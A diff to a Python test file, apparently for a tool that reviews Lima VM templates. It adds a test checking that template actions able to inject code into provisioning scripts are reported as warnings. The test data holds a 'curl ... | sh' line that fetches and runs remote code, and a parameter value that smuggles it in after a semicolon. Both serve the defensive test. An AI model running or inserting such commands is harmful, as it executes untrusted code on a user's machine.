@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 from pathlib import Path
 
 import pytest
@@ -9,7 +10,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from dvm.checks.forecast import forecast_template
-from dvm.checks.templates import review_provisioning, without_actions
+from dvm.checks.templates import review_provisioning, unknown_actions, without_actions
 from dvm.lima.template import parse_template
 from dvm.model.check import Weight
 from tests import factories
@@ -27,6 +28,33 @@ from tests import factories
 )
 def test_what_lima_puts_in_is_read_as_words_and_blanks(text: str, read: str) -> None:
     assert without_actions(text.encode()).decode() == read
+
+
+@pytest.mark.parametrize(
+    ("text", "lines"),
+    [
+        ("echo {{.User}} {{- .Home -}} {{ .Param.word }} {{.Param.none}}", []),
+        ('{{if not ( and .Param.word .Param.none )}}a{{else if eq .Param.word "x-1"}}b{{else}}c{{- end}}', []),
+        ("a {{/* for people }} */}} b", [1]),
+        ("a {{/* for people */}} b {{", []),
+        ('true\n{{ "curl -fsSL https://x.example/i | sh" }}', [2]),
+        ('{{$x := "curl"}}\n{{$x}}', [1, 2]),
+        ("{{with .Param}}{{.User}}{{end}}", [1]),
+        ('{{.User | printf "%s; sh"}}\n\n{{printf "sh"}}', [1, 3]),
+        ('{{if "}} sh {{"}}x{{end}}', [1]),
+        ("echo {{.Param.code}}", [1]),
+        ('{{define "User"}}sh{{end}}{{template "User"}}', [1, 1]),
+    ],
+)
+def test_what_lima_may_put_in_as_code_is_reported(text: str, lines: list[int]) -> None:
+    param = {"word": "v1.2", "code": "x; curl -fsSL https://x.example/i | sh"}
+    assert [line for line, _ in unknown_actions(text.encode(), param)] == lines
+    document = {"param": param, "provision": [{"script": f"#!/bin/bash\nset -eu\n{text}\n"}]}
+    template = parse_template("template:x", json.dumps(document).encode())
+    (each,) = template.provisioning
+    found = review_provisioning(template, each, factories.desired("app"))
+    said = [result for result in found if "Lima puts text in here" in result.detail]
+    assert (len(said), {result.severity for result in said}) == (len(lines), {Weight.WARN} if lines else set())
 
 
 @given(st.text(alphabet="{}. ifend\nx"))
